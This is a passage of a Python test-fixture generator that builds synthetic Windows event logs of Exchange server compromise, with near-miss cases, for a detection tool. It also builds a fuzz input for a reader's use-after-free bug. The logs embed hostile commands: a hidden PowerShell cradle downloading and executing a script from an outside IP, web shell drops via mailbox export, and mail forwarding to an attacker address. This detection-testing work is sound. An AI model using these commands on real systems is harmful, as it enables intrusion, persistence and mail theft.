        cmdlet_event("2021-11-10T15:22:08.6250000Z", "Get-App", getapp_params, event_id=6,
                     error=getapp_exc,
                     message="Cmdlet failed. Cmdlet Get-App, parameters %s." % getapp_params),
    ]}
    c["evtx-get-app-42321-near"] = {MGMT: benign_mgmt("2021-11-10") + [
        cmdlet_event("2021-11-10T15:22:08.6250000Z", "Get-App", "-Mailbox alice",
                     message="Cmdlet succeeded. Cmdlet Get-App, parameters -Mailbox alice."),
    ]}

    # CVE-2020-0688: ECP error holding &__VIEWSTATE=
    vs_url = ("/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%s" % viewstate())
    app0688 = [classic_event("2020-03-02T09:00:01.0000000Z", "MSExchangeApplicationLogic",
                             3018, 4, ["Scenario[ServiceHealth]: refresh completed."])]
    c["evtx-viewstate-0688"] = {APP: app0688 + [
        ecp_error("2020-03-02T10:31:47.2890000Z", vs_url,
                  "System.Web.HttpException: The state information is invalid for this page "
                  "and might be corrupted."),
    ]}
    c["evtx-viewstate-0688-near"] = {APP: app0688 + [
        ecp_error("2020-03-02T10:31:47.2890000Z", "/ecp/PersonalSettings/HomePage.aspx?showhelp=false",
                  "System.NullReferenceException: Object reference not set to an instance of an "
                  "object."),
    ]}

    # Security: log cleared (UserData shape) and adds to Exchange groups
    cleared = dict(provider="Microsoft-Windows-Eventlog", provider_guid=EVENTLOG_GUID,
                   event_id=1102, version=0, level=4, task=104, opcode=0,
                   keywords="0x4020000000000000", time="2021-03-03T03:10:44.7380000Z",
                   activity_id="", execution=(1104, 5768), channel="Security", computer=HOST,
                   security="",
                   userdata=("LogFileCleared",
                             "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                             [("SubjectUserSid", ADMIN_SID),
                              ("SubjectUserName", "Administrator"),
                              ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x2a1c4f")]))
    c["evtx-security"] = {SEC: [
        logon_4624("2021-03-03T02:50:12.1100000Z", "Administrator", "10.0.0.21"),
        group_add("2021-03-03T02:58:30.5000000Z", 4756, "svc-backup", 1137,
                  "Organization Management", 1118),
        group_add("2021-03-03T02:58:41.0000000Z", 4728, "svc-backup", 1137,
                  "Exchange Trusted Subsystem", 1119),
        group_add("2021-03-03T02:59:02.2500000Z", 4732, "svc-backup", 1137,
                  "Exchange Windows Permissions", 1121),
        logon_4624("2021-03-03T03:05:40.0000000Z", "svc-backup", "10.0.0.21"),
        cleared,
    ]}
    c["evtx-security-near"] = {SEC: [
        logon_4624("2021-03-03T02:50:12.1100000Z", "Administrator", "10.0.0.21"),
        group_add("2021-03-03T02:58:30.5000000Z", 4732, "alice", 1105,
                  "Remote Desktop Users", 555),
        logon_4624("2021-03-03T03:05:40.0000000Z", "alice", "10.0.0.35", logon_type="10"),
    ]}

    # Sysmon
    cmd = r"C:\Windows\System32\cmd.exe"
    csc = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe"
    temp_aspnet = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files"
    umwp = V15 + r"\Bin\UMWorkerProcess.exe"
    mrs = V15 + r"\Bin\MSExchangeMailboxReplication.exe"
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    owa_cmd = owa_pool_cmd("MSExchangeOWAAppPool")
    win_meta = ("10.0.17763.1 (WinBuild.160101.0800)", "Windows Command Processor",
                "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe")
    csc_meta = ("4.8.3761.0", "Visual C# Command Line Compiler",
                "Microsoft® .NET Framework", "Microsoft Corporation", "csc.exe")
    sysmon_benign = [
        sysmon_proc("2021-03-03T01:40:00.1230000Z", r"C:\Windows\System32\svchost.exe",
                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                    r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe",
                    1964, 636, "C:\\Windows\\system32\\"),
    ]
    c["evtx-sysmon"] = {SYSMON: sysmon_benign + [
        sysmon_proc("2021-03-03T02:31:07.4820000Z", cmd, "cmd /c whoami", W3WP, owa_cmd,
                    8824, 6612, "C:\\Windows\\system32\\", meta=win_meta),
        sysmon_proc("2021-03-03T02:33:19.0040000Z", ps,
                    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
                    "DownloadString('http://203.0.113.7/a.ps1')\"", umwp, '"%s"' % umwp,
                    9120, 4528, V15 + "\\Bin\\"),
        sysmon_file("2021-03-03T02:35:51.6660000Z", W3WP, 6612,
                    r"C:\inetpub\wwwroot\aspnet_client\z.aspx"),
        sysmon_file("2021-03-03T02:40:12.3330000Z", mrs, 3712,
                    V15 + r"\FrontEnd\HttpProxy\owa\auth\y.aspx"),
    ]}
    c["evtx-sysmon-near"] = {SYSMON: sysmon_benign + [
        sysmon_proc("2021-03-03T02:31:07.4820000Z", csc,
                    '"%s" /noconfig /fullpaths @"%s\\owa\\8a3c2f1e\\5b7d9e10\\kx0qzvcz.cmdline"'
                    % (csc, temp_aspnet), W3WP, owa_cmd, 8824, 6612,
                    "C:\\Windows\\system32\\inetsrv\\", meta=csc_meta),
        sysmon_file("2021-03-03T02:31:07.9000000Z", W3WP, 6612,
                    temp_aspnet + r"\owa\8a3c2f1e\5b7d9e10\kx0qzvcz.tmp"),
    ]}

    # Defender
    shell = r"file:_C:\inetpub\wwwroot\aspnet_client\shell.aspx"
    c["evtx-defender"] = {DEFENDER: [
        defender_scan("2021-03-03T01:00:02.0000000Z", 1000),
        defender_scan("2021-03-03T01:03:43.0000000Z", 1001),
        defender_detection("2021-03-03T02:36:10.8870000Z", 1116, "Exploit:Script/ChopperWeb.A",
                           2147775002, shell, "Not Applicable"),
        defender_detection("2021-03-03T02:36:12.0150000Z", 1117, "Exploit:Script/ChopperWeb.A",
                           2147775002, shell, "Quarantine"),
    ]}
    c["evtx-defender-near"] = {DEFENDER: [
        defender_scan("2021-03-03T01:00:02.0000000Z", 1000),
        defender_scan("2021-03-03T01:03:43.0000000Z", 1001),
    ]}

    # EXH-EV-016: a dangerous cmdlet failed (event 6); near miss: a harmless cmdlet failed,
    # and the same dangerous cmdlet's failure under Get-App's InvalidCastException text
    agent = ('-Name "MailFilter" -TransportAgentFactory '
             '"Microsoft.Exchange.Transport.Agent.MailFilter.MailFilterFactory" '
             '-AssemblyPath "C:\\ProgramData\\x.dll"')
    c["evtx-cmdlet-failed"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T03:12:44.2031250Z", "Install-TransportAgent", agent, event_id=6,
                     error="Microsoft.Exchange.Management.AgentTasks.TransportAgentAssemblyLoadException: "
                           "Could not load file or assembly 'x.dll'",
                     proc="5120 powershell", app="Local-ManagementShell"),
        cmdlet_event("2021-08-14T03:20:02.0000000Z", "New-MailboxExportRequest",
                     '-Mailbox "ceo" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',
                     event_id=6, error="System.InvalidCastException: Unable to cast object"),
    ]}
    c["evtx-cmdlet-failed-near"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T09:12:44.2031250Z", "Set-Mailbox",
                     '-Identity "bob" -ProhibitSendQuota "10GB"', event_id=6,
                     error="Microsoft.Exchange.Data.DataValidationException: quota too large"),
        cmdlet_event("2021-08-14T09:13:01.9843750Z", "Get-TransportAgent", "", event_id=6,
                     error="System.Management.Automation.RemoteException: access denied",
                     proc="5120 powershell", app="Local-ManagementShell"),
    ]}

    # EXH-EV-017: agents.config written by an editor; near miss: Exchange setup writes it
    agents_cfg = r"E:\Exchange2016\TransportRoles\Shared\agents.config"
    c["evtx-agents-config"] = {SYSMON: sysmon_benign + [
        sysmon_file("2021-06-04T09:30:48.1700000Z", r"C:\Program Files\Notepad++\notepad++.exe",
                    19108, agents_cfg),
    ]}
    c["evtx-agents-config-near"] = {SYSMON: sysmon_benign + [
        sysmon_file("2021-06-04T09:30:48.1700000Z",
                    r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\ExSetup.exe", 4410,
                    agents_cfg),
        sysmon_file("2021-06-04T09:31:02.0000000Z", r"C:\Program Files\Notepad++\notepad++.exe",
                    19108, r"E:\Exchange2016\TransportRoles\Shared\agents.config.bak"),
    ]}

    # EXH-EV-014: a script and a program dropped into web folders by Exchange processes;
    # near miss: a log file, and a compiled page in Temporary ASP.NET Files
    c["evtx-sysmon-drop"] = {SYSMON: sysmon_benign + [
        sysmon_file("2021-03-03T02:36:00.1000000Z", W3WP, 6612,
                    r"C:\inetpub\wwwroot\aspnet_client\system_web\up.ps1"),
        sysmon_file("2021-03-03T02:36:05.2000000Z",
                    r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe",
                    4528, r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy"
                          r"\owa\auth\m.exe"),
    ]}
    c["evtx-sysmon-drop-near"] = {SYSMON: sysmon_benign + [
        sysmon_file("2021-03-03T02:36:00.1000000Z", W3WP, 6612,
                    r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Owa"
                    r"\HttpProxy_2021030302-1.LOG"),
        sysmon_file("2021-03-03T02:36:05.2000000Z", W3WP, 6612,
                    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files"
                    r"\owa\1a2b3c4d\5e6f7a8b\App_Web_x1y2z3.dll"),
    ]}

    # EXH-EV-013 from Security 4688: cmd.exe under w3wp.exe; near miss: csc.exe under w3wp.exe
    def proc_4688(time, new, parent, cmdline):
        return security_event(time, 4688, [
            ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "EXCH01$"),
            ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x3e7"),
            ("NewProcessId", "0x1a2c"), ("NewProcessName", new), ("TokenElevationType", "%%1936"),
            ("ProcessId", "0x19d4"), ("CommandLine", cmdline), ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"), ("TargetDomainName", "-"), ("TargetLogonId", "0x0"),
            ("ParentProcessName", parent), ("MandatoryLabel", "S-1-16-16384")], task=13312)
    c["evtx-4688-w3wp-shell"] = {SEC: [
        proc_4688("2021-03-03T02:31:07.4820000Z", r"C:\Windows\System32\cmd.exe", W3WP,
                  "cmd /c whoami > c:\\inetpub\\wwwroot\\aspnet_client\\a.txt"),
    ]}
    c["evtx-4688-w3wp-shell-near"] = {SEC: [
        proc_4688("2021-03-03T02:31:07.4820000Z",
                  r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", W3WP,
                  "csc.exe /noconfig /fullpaths @\"C:\\Windows\\Temp\\x.cmdline\""),
        proc_4688("2021-03-03T02:40:00.0000000Z", r"C:\Windows\System32\cmd.exe",
                  r"C:\Windows\explorer.exe", "cmd.exe"),
    ]}

    # damaged file: torn record, bad chunk magic, zero chunk, then a good chunk with the hit
    c["evtx-damaged"] = {MGMT: damaged_file()}
    # extra: the header's chunk count is stale (dirty log), the hit is in chunk 1
    c["evtx-dirty-header"] = {MGMT: dirty_header_file()}
    # extra: three full chunks of everyday cmdlets, the hit in the last one
    c["evtx-multichunk"] = {MGMT: multichunk_events()}
    # extra: a WEC collector's ForwardedEvents log (other computers, mixed channels)
    c["evtx-forwarded-wec"] = {FWD: forwarded_events()}
    return c


def damaged_file():
    ev0 = benign_mgmt("2021-03-02", 4)
    torn = cmdlet_event("2021-03-02T13:00:00.0000000Z", "Get-Mailbox", '-Identity "torn"')
    ev1 = benign_mgmt("2021-03-03", 3)
    hit = cmdlet_event("2021-03-03T02:13:58.8312090Z", "Set-OabVirtualDirectory", OAB_SCRIPT,
                       app=ECP_APP, proc=ECP_PROC)
    after = cmdlet_event("2021-03-03T02:14:07.1250000Z", "Get-OabVirtualDirectory",
                         '-Identity "OAB (Default Web Site)"', app=ECP_APP, proc=ECP_PROC)
    rid = 1
    readable = []
    c0 = Chunk()
    for ev in ev0:
        assert c0.try_add(ev, rid)
        readable.append((rid, ev))
        rid += 1
    c0.add_torn(torn, rid)
    rid += 1
    c1 = Chunk()
    for ev in ev1:
        assert c1.try_add(ev, rid)
        rid += 1
    b1 = bytearray(c1.build())
    b1[0:8] = b"XlfChnk\x00"  # one byte of the magic changed; CRCs left as they were
    c3 = Chunk()
    for ev in (hit, after):
        assert c3.try_add(ev, rid)
        readable.append((rid, ev))
        rid += 1
    data = (file_header(4, rid) + c0.build() + bytes(b1) + bytes(CHUNK_SIZE) + c3.build())
    problems = ["chunk 0: torn record", "chunk 1: bad magic", "chunk 2: empty"]
    return ("raw", data, readable, problems)


def dirty_header_file():
    ev0 = benign_mgmt("2021-08-13", 3)
    ev1 = [cmdlet_event("2021-08-13T17:40:09.7968750Z", "New-MailboxExportRequest",
                        '-Mailbox admin@corp.example.com -FilePath '
                        '"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"')]
    rid = 4210  # a rolled-over log: ids do not start at 1
    readable = []
    chunks = []
    for group in (ev0, ev1):
        ch = Chunk()
        for ev in group:
            assert ch.try_add(ev, rid)
            readable.append((rid, ev))
            rid += 1
        chunks.append(ch.build())
    # header written when only chunk 0 existed: last chunk 0, 1 chunk, next id stale,
    # dirty flag set (valid header CRC)
    data = file_header(1, 4213, flags=0x1) + b"".join(chunks)
    return ("raw", data, readable, [])


def multichunk_events():
    cmdlets = [("Get-Mailbox", '-Identity "%s"'), ("Get-MailboxStatistics", '-Identity "%s"'),
               ("Get-CASMailbox", '-Identity "%s"'), ("Get-MailboxFolderStatistics",
                                                      '-Identity "%s" -FolderScope "Inbox"')]
    users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan"]
    evs = []
    for i in range(70):
        name, fmt = cmdlets[i % len(cmdlets)]
        evs.append(cmdlet_event("2021-08-12T%02d:%02d:%02d.%07dZ"
                                % (6 + i // 60, i % 60, (i * 7) % 60, (i * 7919) % 10000000),
                                name, fmt % users[i % len(users)],
                                proc="4404 w3wp#MSExchangePowerShellAppPool"))
    evs.append(cmdlet_event("2021-08-13T17:45:12.6406250Z", "New-ExchangeCertificate",
                            '-GenerateRequest -BinaryEncoded -RequestFile '
                            '"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\ca.aspx" '
                            '-SubjectName "CN=x"'))
    return evs


def forwarded_events():
    exch02 = "EXCH02.corp.example.com"
    fr_params = '-Identity "corp.example.com/Users/Jean Dupont" -ForwardingSmtpAddress ' \
                '"smtp:collect@evil.example"'
    evs = [
        dict(logon_4624("2021-08-20T07:59:58.0000000Z", "jdupont", "10.0.1.40"),
             computer="DC01.corp.example.com",
             message="An account was successfully logged on."),
        cmdlet_event("2021-08-20T08:00:01.5000000Z", "Get-Mailbox", '-Identity "jdupont"',
                     computer=exch02, culture="fr-FR",
                     message="Cmdlet réussie. Cmdlet Get-Mailbox, paramètres -Identity "
                             "\"jdupont\"."),
        cmdlet_event("2021-08-20T08:02:44.2500000Z", "Set-Mailbox", fr_params,
                     computer=exch02, culture="fr-FR",
                     message="Cmdlet réussie. Cmdlet Set-Mailbox, paramètres %s." % fr_params),
        dict(classic_event("2021-08-20T08:03:00.0000000Z", "MSExchange ADAccess", 2080, 4,
                           ["w3wp.exe", "4404", "DC01.corp.example.com\tCDG 1 7 7 1 0 1 1 7 1"]),
             computer=exch02, message="Process w3wp.exe (PID=4404). Exchange Active Directory "
                                      "Provider has discovered the following servers."),
    ]
    return evs


# --------------------------------------------------------------------------------------
# Template form: the fuzz corpus regression input for the reader's template plans
# --------------------------------------------------------------------------------------
#
# Everything above writes the inline form. This part writes the template form (MS-EVEN6
# BinXml: a template instance 0x0c whose definition, written inline at its first use in
# the chunk, holds substitutions 0x0d; the instance's values follow it; a value of type
# 0x21 holds a nested fragment, here another template instance) for one input of the fuzz
# corpus, fuzz/corpus/evtx/crash-plan-slot-reuse.evtx: see plan_slot_reuse().

FUZZ_EVTX = REPO / "fuzz" / "corpus" / "evtx"
PLAN_SLOT_FILE = "crash-plan-slot-reuse.evtx"
FRAGMENT = bytes([0x0F, 0x01, 0x01, 0x00])
NO_DEP = 0xFFFF  # dependency id of an element that depends on no optional value


class Sub:
    """A normal substitution (token 0x0d) of value `index`, declared type `vtype`."""

    def __init__(self, index, vtype):
        self.index = index
        self.vtype = vtype


def plan_slot(def_off):
    """The slot of src/read/evtx.c's 32 template plans that the definition at chunk
    offset def_off is recorded in and replayed from."""
    return (def_off >> 3) & 31


class TemplateXml(BinXml):
    """BinXml plus template definitions and instances. `defs` maps a definition's key to
    its chunk offset; like `names`, it is shared by all records of one chunk, so the first
    instance of a key writes the definition inline and later ones refer back to it."""

    def __init__(self, base, names, defs):
        super().__init__(base, names)
        self.defs = defs

    def def_element(self, node):
        """An element of a template definition: u16 dependency id after the token;
        attribute values and children may be Sub."""
        name, attrs, children = node
        self.b += u8(0x41 if attrs else 0x01) + u16(NO_DEP)
        size_at = len(self.b)
        self.b += u32(0)  # data size, patched below
        self.name_ref(name)
        if attrs:
            list_at = len(self.b)
            self.b += u32(0)  # attribute list size, patched below
            for i, (aname, avalue) in enumerate(attrs):
                self.b += u8(0x46 if i + 1 < len(attrs) else 0x06)
                self.name_ref(aname)
                self.def_item(avalue)
            struct.pack_into("<I", self.b, list_at, len(self.b) - list_at - 4)
        if children is None:
            self.b += u8(0x03)
        else:
            self.b += u8(0x02)
            for c in children:
                self.def_item(c)
            self.b += u8(0x04)
        struct.pack_into("<I", self.b, size_at, len(self.b) - size_at - 4)

    def def_item(self, item):
        if isinstance(item, Sub):
            self.b += u8(0x0D) + u16(item.index) + u8(item.vtype)
        elif isinstance(item, str):
            self.text(item)
        else:
            self.def_element(item)

    def instance(self, key, tree, values):
        """A template instance (0x0c) of the definition `key` whose element tree is `tree`.
        values: [(type, bytes, or a function that writes the value into a TemplateXml
        placed at the value's chunk offset)]. The template id is the first 4 bytes of the
        definition's GUID (made from the key)."""
        guid = hashlib.sha256(("template " + key).encode()).digest()[:16]
        self.b += u8(0x0C) + u8(0x01) + guid[:4]
        off = self.defs.get(key)
        if off is not None:
            self.b += u32(off)
        else:
            off = self.pos() + 4  # the definition follows the offset field itself
            self.defs[key] = off
            self.b += u32(off) + u32(0) + guid  # next-definition link 0, GUID
            size_at = len(self.b)
            self.b += u32(0)  # data size, patched below
            self.b += FRAGMENT
            self.def_element(tree)
            self.b += u8(0x00)
            struct.pack_into("<I", self.b, size_at, len(self.b) - size_at - 4)
        self.b += u32(len(values))
        vw = TemplateXml(self.pos() + 4 * len(values), self.names, self.defs)
        descs = bytearray()
        for vtype, v in values:
            before = len(vw.b)
            if callable(v):
                v(vw)
            else:
                vw.b += v
            assert len(vw.b) - before <= 0xFFFF
            descs += u16(len(vw.b) - before) + u8(vtype) + u8(0)
        self.b += descs + vw.b


def tvalue(vtype, text):
    """A substitution value of type vtype from the text a reader should render."""
    if vtype == 0x01:
        return utf16(text)
    if vtype == 0x04:
        return u8(int(text))
    if vtype == 0x06:
        return u16(int(text))
    if vtype == 0x08:
        return u32(int(text))
    if vtype == 0x0A:
        return u64(int(text))
    if vtype == 0x0F:  # {Data1-Data2-Data3-Data4}: the first three fields little-endian
        h = text.strip("{}").replace("-", "")
        return (struct.pack("<IHH", int(h[0:8], 16), int(h[8:12], 16), int(h[12:16], 16))
                + bytes.fromhex(h[16:32]))
    if vtype == 0x11:
        return u64(filetime(text))
    if vtype == 0x13:  # S-rev-authority-sub...: authority 48-bit big-endian, subs u32 LE
        parts = text.split("-")
        assert parts[0] == "S", text
        subs = [int(x) for x in parts[3:]]
        return (u8(int(parts[1])) + u8(len(subs)) + int(parts[2]).to_bytes(6, "big")
                + b"".join(u32(s) for s in subs))
    if vtype == 0x15:
        return u64(int(text, 16))
    raise ValueError("value type 0x%02x" % vtype)


# The outer template, one definition for every record of the file: System from
# substitutions 0-6, then value 7 (binary XML, 0x21) as the Event's last child, which holds
# the EventData (MS-EVEN6's example 4.8 has this shape with UserData).
SYSTEM_TEMPLATE = E("Event",
                    E("System",
                      E("Provider", attrs=[("Name", Sub(0, 0x01))], empty=True),
                      E("EventID", Sub(1, 0x06)),
                      E("Level", Sub(2, 0x04)),
                      E("TimeCreated", attrs=[("SystemTime", Sub(3, 0x11))], empty=True),
                      E("EventRecordID", Sub(4, 0x0A)),
                      E("Channel", Sub(5, 0x01)),
                      E("Computer", Sub(6, 0x01))),
                    Sub(7, 0x21),
                    attrs=[("xmlns", EVENT_NS)])

# 4624's Data types that are not UnicodeString
LOGON_TYPES = {"SubjectUserSid": 0x13, "TargetUserSid": 0x13, "SubjectLogonId": 0x15,
               "TargetLogonId": 0x15, "ProcessId": 0x15, "TargetLinkedLogonId": 0x15,
               "LogonType": 0x08, "KeyLength": 0x08, "LogonGuid": 0x0F}

# record 1's param1: the first of these that lays the file out as plan_slot_reuse() needs
SCM_SERVICES = ["Microsoft Exchange Transport", "Microsoft Exchange Search",
                "Microsoft Exchange Replication", "Microsoft Exchange Information Store",
                "Microsoft Exchange Throttling", "Microsoft Exchange Health Manager",
                "Microsoft Exchange Mailbox Assistants", "Microsoft Exchange Service Host",
                "Microsoft Exchange Diagnostics", "Microsoft Exchange Frontend Transport",
                "Microsoft Exchange DAG Management", "Microsoft Exchange Compliance Audit",
                "Microsoft Exchange Mailbox Replication", "Microsoft Exchange EdgeSync"]


def eventdata_value(key, ev, types):
    """A 0x21 value: a fragment holding an instance of the EventData template `key`, one
    named Data per field of ev, each the substitution of its own value."""
    tree = E("EventData", *[E("Data", Sub(i, types.get(n, 0x01)), attrs=[("Name", n)])
                            for i, (n, _) in enumerate(ev["data"])])
    values = [(types.get(n, 0x01), tvalue(types.get(n, 0x01), v)) for n, v in ev["data"]]

    def write(w):
        w.b += FRAGMENT
        w.instance(key, tree, values)
        w.b += u8(0x00)
    return write


def plan_slot_events(service):
    """The three events: a Service Control Manager 7036, then two Security 4624 logons
    (only the fields the outer template carries, and the data)."""
    def trim(ev):
        out = {k: ev[k] for k in ("provider", "event_id", "level", "time", "channel",
                                  "computer")}
        out["data"] = [(n, v.upper() if n == "LogonGuid" else v) for n, v in ev["data"]]
        return out
    scm = dict(provider="Service Control Manager", event_id=7036, level=4,
               time="2021-03-03T02:41:07.2500000Z", channel="System", computer=HOST,
               data=[("param1", service), ("param2", "running")])
    return [(scm, "EventData 7036", {}),
            (trim(logon_4624("2021-03-03T02:50:12.1100000Z", "Administrator", "10.0.0.21")),
             "EventData 4624", LOGON_TYPES),
            (trim(logon_4624("2021-03-03T03:05:40.0000000Z", "svc-backup", "10.0.0.21")),
             "EventData 4624", LOGON_TYPES)]


def plan_slot_build(service):
    """-> (file bytes, [(rid, ev)], {definition key: chunk offset})"""
    ch = Chunk()
    defs = {}
    placed = []
    for rid, (ev, key, types) in enumerate(plan_slot_events(service), 1):
        w = TemplateXml(ch.offset() + 24, ch.names, defs)
        w.b += FRAGMENT
        w.instance("System", SYSTEM_TEMPLATE, [
            (0x01, tvalue(0x01, ev["provider"])), (0x06, tvalue(0x06, str(ev["event_id"]))),
            (0x04, tvalue(0x04, str(ev["level"]))), (0x11, tvalue(0x11, ev["time"])),
            (0x0A, tvalue(0x0A, str(rid))), (0x01, tvalue(0x01, ev["channel"])),
            (0x01, tvalue(0x01, ev["computer"])), (0x21, eventdata_value(key, ev, types))])
        w.b += u8(0x00)
        size = 24 + len(w.b) + 4
        ch.records.append((ch.offset(), rid))
        ch.data += (b"\x2a\x2a\x00\x00" + u32(size) + u64(rid) + u64(filetime(ev["time"]))
                    + bytes(w.b) + u32(size))
        placed.append((rid, ev))
    return file_header(1, len(placed) + 1) + ch.build(), placed, defs


def plan_slot_reuse():
    """fuzz/corpus/evtx/crash-plan-slot-reuse.evtx: one chunk, three records, all of them
    instances of one outer template D1 (SYSTEM_TEMPLATE) whose value 7 (0x21) holds the
    EventData as an instance of a second template.

    - #1 (Service Control Manager 7036) defines D1 inline: the reader records D1's plan
      (its EventData template D3 lies in another plan slot and, inside a recording, is
      only walked);
    - #2 (4624) uses D1 again, so D1's plan is replayed; its value 7 defines the 4624
      EventData template D2 inline, at a chunk offset in D1's plan slot
      ((D2 >> 3) & 31 == (D1 >> 3) & 31); D2's 27 named Data carry 395 characters of
      static Name text: its plan (about 1.5 KB) is four times D1's (351 bytes, in a
      512-byte buffer);
    - #3 (4624) uses D1 (replayed) and D2 (by reference) again.

    The reader before the fix recorded D2 into the slot whose buffer it was replaying:
    the buffer grew (realloc) under the replay (heap-use-after-free) and the rest of D1
    was read from D2's plan. param1 of #1 is the first SCM_SERVICES name that puts D2 in
    D1's slot (and D3 outside it). -> (bytes, [(rid, ev)], {definition: offset})"""
    for service in SCM_SERVICES:
        data, placed, defs = plan_slot_build(service)
        d1, d2, d3 = defs["System"], defs["EventData 4624"], defs["EventData 7036"]
        if plan_slot(d2) == plan_slot(d1) and plan_slot(d3) != plan_slot(d1):
            return data, placed, {"D1 (System)": d1, "D2 (EventData 4624)": d2,
                                  "D3 (EventData 7036)": d3}
    raise AssertionError("no SCM_SERVICES name puts D2 in D1's plan slot")


def write_plan_slot_reuse():
    data, _, _ = plan_slot_reuse()
    FUZZ_EVTX.mkdir(parents=True, exist_ok=True)
    (FUZZ_EVTX / PLAN_SLOT_FILE).write_bytes(data)
    return len(data)


# --------------------------------------------------------------------------------------
# Independent reader (for --check and --dump): shares no code with the writer above
# --------------------------------------------------------------------------------------

class ReadError(Exception):
    pass


def rd_u16(b, o):
    if o + 2 > len(b):
        raise ReadError("u16 past end at %d" % o)
    return b[o] | b[o + 1] << 8


def rd_u32(b, o):
    if o + 4 > len(b):
        raise ReadError("u32 past end at %d" % o)
    return int.from_bytes(b[o:o + 4], "little")


def rd_u64(b, o):
    if o + 8 > len(b):
        raise ReadError("u64 past end at %d" % o)
    return int.from_bytes(b[o:o + 8], "little")


def rd_utf16(b, o, n):
    if o + 2 * n > len(b):
        raise ReadError("string past end at %d" % o)
    return b[o:o + 2 * n].decode("utf-16-le", "replace")


class XmlReader:
    """Walks inline binary XML inside one chunk (`chunk` is the 64 KiB chunk; positions are
    chunk-relative). Checks data sizes, attribute list sizes and name hashes."""

    def __init__(self, chunk, start, end):
        self.c = chunk
        self.p = start
        self.end = end

    def byte(self):
        if self.p >= self.end:
            raise ReadError("binary XML runs past the record at %d" % self.p)
        v = self.c[self.p]
        self.p += 1
        return v

    def name(self):
        off = rd_u32(self.c, self.p)
        self.p += 4
        if off + 8 > len(self.c):
            raise ReadError("name offset %d outside the chunk" % off)
        n = rd_u16(self.c, off + 6)
        s = rd_utf16(self.c, off + 8, n)
        h = 0
        units = [rd_u16(self.c, off + 8 + 2 * i) for i in range(n)]
        for u in units:
            h = (h * 65599 + u) & 0xFFFF
        if h != rd_u16(self.c, off + 4):
            raise ReadError("name %r: hash %04x, stored %04x" % (s, h, rd_u16(self.c, off + 4)))
        if rd_u16(self.c, off + 8 + 2 * n) != 0:
            raise ReadError("name %r not NUL-terminated" % s)
        if off == self.p:  # defined inline here: skip it
            self.p += 8 + 2 * n + 2
        elif off > self.p:
            raise ReadError("name %r: forward reference %d from %d" % (s, off, self.p))
        return s

    def value_text(self):
        t = self.byte()
        if t != 0x01:
            raise ReadError("value type 0x%02x (only 0x01 expected)" % t)
        n = rd_u16(self.c, self.p)
        s = rd_utf16(self.c, self.p + 2, n)
        self.p += 2 + 2 * n
        return s

    def fragment(self):
        if bytes(self.c[self.p:self.p + 4]) != b"\x0f\x01\x01\x00":
            raise ReadError("no fragment header at %d" % self.p)
        self.p += 4
        tok = self.byte()
        if tok not in (0x01, 0x41):
            raise ReadError("fragment does not start with an element: 0x%02x" % tok)
        root = self.element(tok)
        if self.byte() != 0x00:
            raise ReadError("no end-of-fragment token")
        return root

    def element(self, tok, depth=0):
        if depth > 32:
            raise ReadError("nesting too deep")
        size = rd_u32(self.c, self.p)
        self.p += 4
        after_size = self.p
        name = self.name()
        attrs = []
        if tok & 0x40:
            alen = rd_u32(self.c, self.p)
            self.p += 4
            astart = self.p
            more = True
            while more:
                a = self.byte()
                if a not in (0x06, 0x46):
                    raise ReadError("attribute token 0x%02x" % a)
                more = a == 0x46
                an = self.name()
                if self.byte() != 0x05:
                    raise ReadError("attribute value is not value text")
                attrs.append((an, self.value_text()))
            if self.p - astart != alen:
                raise ReadError("%s: attribute list size %d, real %d" % (name, alen,
                                                                         self.p - astart))
        close = self.byte()
        kids = None
        if close == 0x02:
            kids = []
            while True:
                t = self.byte()
                if t == 0x04:
                    break
                if t in (0x05, 0x45):
                    kids.append(self.value_text())
                elif t in (0x01, 0x41):
                    kids.append(self.element(t, depth + 1))
                else:
                    raise ReadError("token 0x%02x in %s" % (t, name))
        elif close != 0x03:
            raise ReadError("token 0x%02x after start of %s" % (close, name))
        if self.p - after_size != size:
            raise ReadError("%s: data size %d, real %d" % (name, size, self.p - after_size))
        return (name, attrs, kids)


class TemplateXmlReader(XmlReader):
    """XmlReader plus the template form: template instances (0x0c; the definition inline
    right there or earlier in the chunk), dependency ids inside definitions, normal
    substitutions (0x0d) in attribute values and element content, and the value types the
    regression input uses; a 0x21 value is read as a nested fragment whose elements take
    the substitution's place. fragment() -> the root element, like XmlReader's."""

    def __init__(self, chunk, start, end, values=None, dep=False, level=0):
        super().__init__(chunk, start, end)
        self.values = values  # [(chunk offset, size, type)] of the enclosing instance
        self.dep = dep  # inside a template definition: elements carry a dependency id
        self.level = level

    def fragment(self):
        nodes = self.nodes()
        if self.p != self.end:
            raise ReadError("%d bytes after the end of the fragment" % (self.end - self.p))
        roots = [n for n in nodes if isinstance(n, tuple)]
        if len(roots) != 1 or len(nodes) != 1:
            raise ReadError("the fragment holds %d nodes, %d elements" % (len(nodes),
                                                                        len(roots)))
        return roots[0]
